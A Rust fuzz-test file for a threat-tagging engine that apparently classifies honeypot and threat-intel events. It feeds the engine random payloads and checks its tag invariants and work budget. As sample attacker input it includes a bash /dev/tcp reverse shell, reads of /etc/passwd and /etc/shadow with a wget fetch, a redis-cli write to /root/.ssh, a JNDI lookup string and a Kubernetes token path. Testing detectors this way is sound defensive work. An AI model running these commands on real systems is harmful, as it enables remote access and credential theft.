//! Arbitrary JSON payloads on every subject, through event building and every lifter: the
//! tagger never panics, and every tag it emits is one the store can take (confidence within
//! [0.3, 1], a UUID, an anchor).
//!
//! A deterministic generator (no shrinking, no dependency): payloads are objects holding the
//! members the event builder and the lifters read, plus random ones, with values of every
//! JSON type; half the time a member gets a value of the kind its reader expects, and half the
//! payloads are mutated copies of shapes that fire rules, so that the predicates get past
//! their type checks and every tagger fires. Each payload goes to every subject
//! (canary subjects with a real token segment) and to `attacker.fingerprinted` under every
//! envelope type, with the built-in pack and with DECNET's pack.
//!
//! A third run gives the same payloads, with sessions of up to 60 commands and strings of up
//! to 2 kB, to a tagger on a small work budget, and checks that no message ever gets past it
//! and that what was cut is accounted for.
//!
//! `TAGGING_FUZZ_SEED` and `TAGGING_FUZZ_CASES` (payloads per pack, default 1000) explore more.

mod common;

use std::panic::{AssertUnwindSafe, catch_unwind, resume_unwind};

use common::corpus::{reference_options, required};
use serde_json::{Map, Value, json};
use ttp_worker::tagging::{
    Budget, CONFIDENCE_FLOOR, EngineOptions, KNOWN_KINDS, MessageTags, Tagger, Tally,
};
use ttp_worker::topics::{ATTACKER_FINGERPRINTED, CANARY_ALL, TOPICS};

/// Members some part of the tagger reads (event building, anchors, every lifter, the pattern
/// engine's default fields).
const KEYS: [&str; 104] = [
    "attacker_uuid",
    "identity_uuid",
    "attacker_ip",
    "src_ip",
    "source_id",
    "session_id",
    "token_id",
    "credential_id",
    "uuid",
    "decky_id",
    "commands",
    "command_text",
    "text",
    "id",
    "command_id",
    "uid",
    "user",
    "src",
    "pwd",
    "subject",
    "urls",
    "providers",
    "abuseipdb_score",
    "abuseipdb_categories",
    "categories",
    "greynoise_classification",
    "greynoise_tags",
    "greynoise_name",
    "feodo_listed",
    "feodo_malware_family",
    "malware_family",
    "first_seen_feodo",
    "threatfox_threat_types",
    "threat_type",
    "threatfox_malware_families",
    "threatfox_ioc_types",
    "aggregate_verdict",
    "addr",
    "mac_oui",
    "iid_kind",
    "vector",
    "on_iface",
    "attacker_v4",
    "observed_at",
    "rcpt_count",
    "rcpt_domains",
    "from_domain",
    "from",
    "mail_from_domain",
    "mail_from",
    "return_path_domain",
    "x_mailer",
    "matched_kit",
    "xmailer_kit_match",
    "dkim_signed",
    "spf_pass",
    "body_sha256",
    "body_text",
    "note_text",
    "body_simhash",
    "body_base64_bytes",
    "attachment_sha256s",
    "attachment_extensions",
    "attachment_macros",
    "attachment_password_protected",
    "html_smuggling",
    "mal_hash_match",
    "stored_as",
    "beacon_interval_s",
    "beacon_jitter_pct",
    "op_text",
    "bytes_out",
    "request_count",
    "rows_read",
    "bytes_read",
    "matched_path",
    "request_path",
    "path",
    "signals",
    "llmnr_poisoned",
    "llmnr_poison_count",
    "tftp_filename",
    "navigator_webdriver",
    "canvas_audio_hash_match",
    "matched_tool",
    "webrtc_geo_mismatch",
    "tz_mismatch_zones",
    "lang_country_mismatch",
    "platform_ua_inconsistent",
    "ua_webgl_mismatch",
    "fail_count",
    "service",
    "password_count",
    "username",
    "password",
    "credential_hash",
    "reuse_count",
    "result",
    "prior_brute",
    "shared_password_hash",
    "account_count",
    "raw_url",
    "payload_text",
    "user_agent",
];

/// Envelope types for `attacker.fingerprinted`: the prober's, every kind DECNET knows (the
/// type becomes the source kind), none, and one nobody knows.
fn fingerprint_types() -> Vec<&'static str> {
    let probes = [
        "jarm",
        "hassh",
        "tcpfp",
        "tls_certificate",
        "icmp_error",
        "icmp6_error",
    ];
    probes
        .into_iter()
        .chain(KNOWN_KINDS)
        .chain(["", "made_up"])
        .collect()
}

/// Strings that mean something to some reader, and some that mean nothing.
const STRINGS: [&str; 40] = [
    "",
    " ",
    "Unknown",
    "0.0.0.0",
    "203.0.113.7",
    "fe80::a8bb:ccff:fedd:eeff",
    "FE80::1",
    "fe8",
    "0b6c1f7e-2d4a-4f0e-9c1b-5a3e7d9f1c20",
    "7d1e0c55-8f0a-4b7e-a1c2-3d4e5f6a7b8c",
    "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
    "find / -perm -4000 -type f",
    "cat /etc/passwd",
    "lsb_release\n",
    "uname -a",
    "redis-cli config set dir /root/.ssh",
    "ls ~/Документы",
    "echo '🙂 ok'",
    "\n",
    "a\u{1c}b",
    "FLUSHALL",
    "DROP DATABASE x",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/.env",
    "router-confg",
    "privileged:true",
    "https://xn--80ak6aa92e.example/login",
    "http://Example.COM:8080/x",
    "URGENT invoice: please send wire transfer, confidential",
    "pay 1 bitcoin ransom to decrypt: 1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
    "PHPMailer 6.0.7",
    "user@Evil.Example",
    "malicious",
    "scanner",
    "tor_exit_node",
    "botnet_cc",
    "payload_delivery",
    "success",
    ".ISO",
    "${jndi:ldap://x/a} ../../../etc/passwd sqlmap",
];

/// xorshift64*: small, deterministic, good enough to pick.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn chance(&mut self, one_in: usize) -> bool {
        self.below(one_in) == 0
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

fn number(rng: &mut Rng) -> Value {
    match rng.below(12) {
        0 => json!(0),
        1 => json!(-1),
        2 => json!(u64::MAX),
        3 => json!(i64::MIN),
        4 => json!(1.5),
        5 => json!(-0.0),
        6 => json!(1e300),
        7 => json!(250),
        8 => json!(90),
        9 => json!(0.05),
        10 => json!(rng.below(40)),
        _ => json!(rng.below(1 << 20) as f64 / 7.0),
    }
}

fn string(rng: &mut Rng) -> Value {
    match rng.below(10) {
        0 => Value::String(format!("k{}", rng.below(1000))),
        // A long base64 run (R0048's scan) or a long text (regex work).
        1 => Value::String("QUFB".repeat(rng.below(3000))),
        2 => Value::String("find / ".repeat(rng.below(200))),
        _ => Value::String((*rng.pick(&STRINGS)).to_owned()),
    }
}

/// Any JSON value, nested up to `depth`.
fn any(rng: &mut Rng, depth: usize) -> Value {
    let kinds = if depth == 0 { 4 } else { 6 };
    match rng.below(kinds) {
        0 => Value::Null,
        1 => Value::Bool(rng.chance(2)),
        2 => number(rng),
        3 => string(rng),
        4 => Value::Array((0..rng.below(5)).map(|_| any(rng, depth - 1)).collect()),
        _ => Value::Object(object(rng, depth - 1, 5)),
    }
}

/// A value of the kind a member's reader expects, judged from its name.
fn typed(rng: &mut Rng, key: &str) -> Value {
    let flag = key.starts_with("attachment_m")
        || key.starts_with("attachment_p")
        || key.ends_with("_listed")
        || key.ends_with("_mismatch")
        || key.ends_with("_inconsistent")
        || key.ends_with("_match")
        || key.ends_with("_signed")
        || key.ends_with("_pass")
        || key.ends_with("_smuggling")
        || matches!(
            key,
            "navigator_webdriver" | "llmnr_poisoned" | "prior_brute"
        );
    let count = key.ends_with("_count")
        || key.ends_with("_score")
        || key.ends_with("_bytes")
        || key.ends_with("_s")
        || key.ends_with("_pct")
        || key.ends_with("_read")
        || key.ends_with("_out")
        || key.ends_with("_zones");
    let list = key.ends_with('s') && !count && !flag && key != "addr" && key != "pwd";
    if flag {
        Value::Bool(!rng.chance(4))
    } else if count {
        number(rng)
    } else if key == "commands" {
        Value::Array((0..rng.below(6)).map(|_| command(rng)).collect())
    } else if list {
        Value::Array(
            (0..rng.below(4))
                .map(|_| {
                    if rng.chance(2) {
                        json!(rng.below(25))
                    } else {
                        string(rng)
                    }
                })
                .collect(),
        )
    } else {
        string(rng)
    }
}

/// A `commands` element: text, an object shaped like the collector's, or anything.
fn command(rng: &mut Rng) -> Value {
    match rng.below(4) {
        0 => string(rng),
        1 => any(rng, 2),
        _ => {
            let mut object = object(rng, 1, 3);
            for key in [
                "command_text",
                "text",
                "id",
                "uuid",
                "command_id",
                "uid",
                "pwd",
            ] {
                if rng.chance(3) {
                    let value = if rng.chance(3) {
                        any(rng, 1)
                    } else {
                        string(rng)
                    };
                    object.insert(key.to_owned(), value);
                }
            }
            Value::Object(object)
        }
    }
}

/// An object of up to `width` members, mostly under the keys the tagger reads.
fn object(rng: &mut Rng, depth: usize, width: usize) -> Map<String, Value> {
    let mut object = Map::new();
    for _ in 0..rng.below(width + 1) {
        let key = if rng.chance(5) {
            format!("x{}", rng.below(50))
        } else {
            (*rng.pick(&KEYS)).to_owned()
        };
        let value = if rng.chance(2) {
            typed(rng, &key)
        } else {
            any(rng, depth)
        };
        object.insert(key, value);
    }
    object
}

/// Payload shapes that fire rules of every tagger (docs/tagging.md §14 and the lifter tables),
/// mutated below so that every reader also meets the wrong types next to the right ones.
fn templates() -> [Value; 8] {
    let attacker = "0b6c1f7e-2d4a-4f0e-9c1b-5a3e7d9f1c20";
    [
        json!({"session_id": "sess-9f2c", "attacker_ip": "203.0.113.7", "decky_id": "d",
            "commands": [{"id": "s#4", "command_text": "cat /etc/passwd", "uid": "0",
                "user": "root", "pwd": "/root"}, "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
                {"text": "uname -a", "uuid": 17}, 42],
            "beacon_interval_s": 60, "beacon_jitter_pct": 0.05, "op_text": "FLUSHALL",
            "signals": ["privileged:true"], "matched_path": "/.env", "llmnr_poisoned": true,
            "tftp_filename": "router-confg", "bytes_out": 5_000_000, "rows_read": 20_000,
            "body_text": "pay 1 bitcoin ransom: 1BoatSLRHtKNngkdXEeobR76b53LETtpyT"}),
        json!({"attacker_uuid": attacker, "attacker_ip": "203.0.113.7",
            "aggregate_verdict": "malicious", "providers": ["abuseipdb", "greynoise"],
            "abuseipdb_score": 90, "abuseipdb_categories": [18, 22, 14, 11, 4],
            "greynoise_classification": "malicious", "greynoise_name": null,
            "greynoise_tags": ["tor_exit_node", "unknown_tag"], "feodo_listed": true,
            "feodo_malware_family": "Emotet", "threatfox_listed": true,
            "threatfox_threat_types": ["botnet_cc", "payload"], "threatfox_ioc_types": ["ip:port"],
            "threatfox_malware_families": []}),
        json!({"source_id": "<m1@kit.evil>", "attacker_uuid": attacker, "decky_id": "mail",
            "subject": "URGENT: invoice", "from_domain": "bigcorp.com",
            "mail_from_domain": "evil.example", "return_path_domain": "kit.evil",
            "rcpt_count": 30, "rcpt_domains": ["Target.tld", "other.tld"],
            "x_mailer": "PHPMailer 6.0.7", "matched_kit": "16shop", "dkim_signed": false,
            "spf_pass": false, "urls": ["https://xn--80ak6aa92e.example/login"],
            "attachment_sha256s": ["aa11"], "attachment_extensions": [".ISO"],
            "body_simhash": "", "body_base64_bytes": 8192, "attachment_macros": true,
            "body_text": "please send the wire transfer, confidential"}),
        json!({"attacker_ip": "203.0.113.7", "addr": "FE80::a8bb:ccff:fedd:eeff",
            "iid_kind": "eui64", "mac_oui": "aa:bb:cc", "vector": "active_echo",
            "on_iface": "eth0", "observed_at": "2026-05-02T06:23:30Z"}),
        json!({"identity_uuid": "7d1e0c55-8f0a-4b7e-a1c2-3d4e5f6a7b8c", "attacker_uuid": attacker,
            "observation_uuids": ["o1"], "shared_password_hash": "5f4dcc3b", "account_count": 4}),
        json!({"token_id": "5f0c2b9e", "src_ip": "198.51.100.4", "navigator_webdriver": true,
            "canvas_audio_hash_match": "puppeteer", "webrtc_geo_mismatch": true,
            "tz_mismatch_zones": 5, "platform_ua_inconsistent": true}),
        json!({"attacker_uuid": attacker, "credential_hash": "h", "reuse_count": 3,
            "fail_count": 9, "service": "ssh", "password_count": 7, "username": "root",
            "password": "root", "result": "success", "prior_brute": true}),
        json!({"attacker_ip": "198.51.100.7", "source_id": "req-1",
            "raw_url": "/${jndi:ldap://x/a}/../../etc/passwd", "user_agent": "sqlmap/1.7",
            "request_path": "/api/v1/namespaces/default/secrets", "username": "admin",
            "payload_text": "uname -a"}),
    ]
}

fn payload(rng: &mut Rng) -> Map<String, Value> {
    if rng.chance(2) {
        let mut payload = object(rng, 3, 24);
        // Most real payloads are anchored one way or another.
        match rng.below(5) {
            0 => {
                payload.insert("attacker_uuid".into(), string(rng));
            }
            1 => {
                let ip = format!("198.51.100.{}", rng.below(8));
                payload.insert("attacker_ip".into(), json!(ip));
            }
            2 => {
                payload.insert("identity_uuid".into(), string(rng));
            }
            _ => {}
        }
        return payload;
    }
    let Value::Object(template) = rng.pick(&templates()).clone() else {
        return Map::new();
    };
    let mut payload = Map::new();
    for (key, value) in template {
        match rng.below(8) {
            0 => {} // dropped
            1 | 2 => {
                let value = any(rng, 2);
                payload.insert(key, value);
            }
            _ => {
                payload.insert(key, value);
            }
        }
    }
    for (key, value) in object(rng, 2, 4) {
        payload.insert(key, value);
    }
    payload
}

/// Every inbound subject; canary ones with a real token segment and each leaf.
fn subjects() -> Vec<(String, Vec<&'static str>)> {
    let mut subjects = Vec::new();
    for topic in TOPICS {
        if topic == CANARY_ALL {
            for leaf in ["triggered", "placed", "revoked"] {
                subjects.push((
                    format!("canary.5f0c2b9e-3d1a-4c6b-9e8f-7a6b5c4d3e2f.{leaf}"),
                    vec![""],
                ));
            }
        } else if topic == ATTACKER_FINGERPRINTED {
            subjects.push((topic.to_owned(), fingerprint_types()));
        } else {
            let kind = topic.split_once('.').map_or("", |(_, rest)| rest);
            subjects.push((topic.to_owned(), vec![kind, ""]));
        }
    }
    subjects
}

fn check(tagged: &MessageTags, subject: &str, kind: &str, payload: &Map<String, Value>) {
    for tag in &tagged.tags {
        let context = || format!("{subject} ({kind}): {tag:?}\npayload: {payload:?}");
        assert!(
            (CONFIDENCE_FLOOR..=1.0).contains(&tag.confidence),
            "confidence out of range: {}",
            context()
        );
        assert_eq!(tag.uuid.len(), 36, "{}", context());
        assert!(
            tag.attacker_uuid.is_some() || tag.identity_uuid.is_some() || tag.attacker_ip.is_some(),
            "no anchor: {}",
            context()
        );
    }
    assert!(
        tagged
            .below_floor
            .iter()
            .all(|t| t.confidence < CONFIDENCE_FLOOR)
    );
}

fn fuzz(options: &EngineOptions, seed: u64) {
    let cases: usize = std::env::var("TAGGING_FUZZ_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1000);
    let mut tagger = Tagger::new(options).unwrap_or_else(|e| panic!("{e}"));
    // Kept in step with `tagger`: the in-place path must give the same tags.
    let mut twin = Tagger::new(options).unwrap_or_else(|e| panic!("{e}"));
    tagger.set_clock(Some(0.0));
    twin.set_clock(Some(0.0));
    let mut rng = Rng(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1);
    let subjects = subjects();
    let mut tally = Tally::default();
    let mut fired = std::collections::BTreeSet::new();
    for _ in 0..cases {
        let payload = payload(&mut rng);
        for (subject, kinds) in &subjects {
            for kind in kinds {
                let run = catch_unwind(AssertUnwindSafe(|| {
                    let tagged = tagger.tag_payload(subject, kind, &payload);
                    let mut owned = payload.clone();
                    let twin_tagged = twin.tag_payload_in_place(subject, kind, &mut owned);
                    (tagged, twin_tagged)
                }));
                let (tagged, twin_tagged) = match run {
                    Ok(results) => results,
                    Err(panic) => {
                        eprintln!(
                            "panic on {subject} ({kind:?}), seed {seed}, payload:\n{}",
                            Value::Object(payload.clone())
                        );
                        resume_unwind(panic)
                    }
                };
                check(&tagged, subject, kind, &payload);
                assert_eq!(tagged, twin_tagged, "{subject} ({kind})");
                tally.add(&tagged);
                fired.extend(tagged.tags.iter().map(|t| t.rule_id.clone()));
            }
        }
    }
    eprintln!("seed {seed}: {tally:?}\nrules fired: {fired:?}");
    // The generator must reach the lifters, not only their type checks: every tagger fires.
    let tags = tally.tags;
    assert!(
        tags > cases as u64,
        "only {tags} tags from {cases} payloads"
    );
    let owners: std::collections::BTreeSet<&str> = tagger
        .rules()
        .iter()
        .filter(|r| fired.contains(&r.rule_id))
        .map(|r| r.owner().name())
        .collect();
    for owner in [
        "pattern",
        "behavioral",
        "intel",
        "canary",
        "email",
        "identity",
        "credential",
        "ipv6",
    ] {
        assert!(owners.contains(owner), "no {owner} rule fired: {fired:?}");
    }
}

fn seed() -> u64 {
    std::env::var("TAGGING_FUZZ_SEED")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(0x5eed_7a99)
}

#[test]
fn arbitrary_payloads_with_the_builtin_pack() {
    fuzz(&EngineOptions::default(), seed());
}

#[test]
fn arbitrary_payloads_with_the_reference_pack() {
    required("decnet-rules");
    fuzz(&reference_options(), seed() ^ 0xdec);
}

/// The budget, asserted on every message: never more tags than it allows, never more command
/// events, the cut commands exactly those past the limit, and no more events cut than built.
#[test]
fn arbitrary_payloads_never_get_past_the_work_budget() {
    let budget = Budget {
        commands: 6,
        text_bytes: 600,
        tags: 5,
        ..Budget::default()
    };
    let options = EngineOptions {
        budget,
        ..EngineOptions::default()
    };
    let mut tagger = Tagger::new(&options).unwrap();
    tagger.set_clock(Some(0.0));
    let mut rng = Rng(seed().wrapping_mul(0x2545_F491_4F6C_DD1D) | 1);
    let firing = [
        "cat /etc/shadow;wget http://x/a;uname -a",
        "crontab -l",
        "history -c",
    ];
    let mut cut_messages = 0;
    for _ in 0..1000 {
        let mut payload = payload(&mut rng);
        let commands: Vec<Value> = (0..rng.below(60))
            .map(|_| match rng.below(3) {
                0 => command(&mut rng),
                _ => json!(*rng.pick(&firing)),
            })
            .collect();
        let listed = commands.len();
        payload.insert("commands".into(), Value::Array(commands));
        if rng.chance(4) {
            let long = "x".repeat(rng.below(2048));
            payload.insert("command_text".into(), json!(long));
        }
        payload.insert("session_id".into(), json!("s-fuzz"));
        let tagged = tagger.tag_payload("attacker.session.ended", "session.ended", &payload);
        let context = || {
            format!(
                "{:?}\npayload: {}",
                tagged.cut,
                Value::Object(payload.clone())
            )
        };
        assert!(tagged.tag_count() <= budget.tags, "{}", context());
        assert!(tagged.events <= budget.commands + 1, "{}", context());
        // A message no event could be built from (no anchor) does no work at all.
        let expected_cut = if tagged.unbuildable.is_some() {
            0
        } else {
            listed.saturating_sub(budget.commands)
        };
        assert_eq!(tagged.cut.commands, expected_cut, "{}", context());
        assert!(tagged.cut.events() <= tagged.events, "{}", context());
        assert!(tagged.cut.events_over_text == 0 || tagged.cut.events_over_tags == 0);
        cut_messages += usize::from(tagged.cut.any());
    }
    // The generator must reach every limit, or the test shows nothing.
    assert!(cut_messages > 100, "only {cut_messages} messages cut");
}
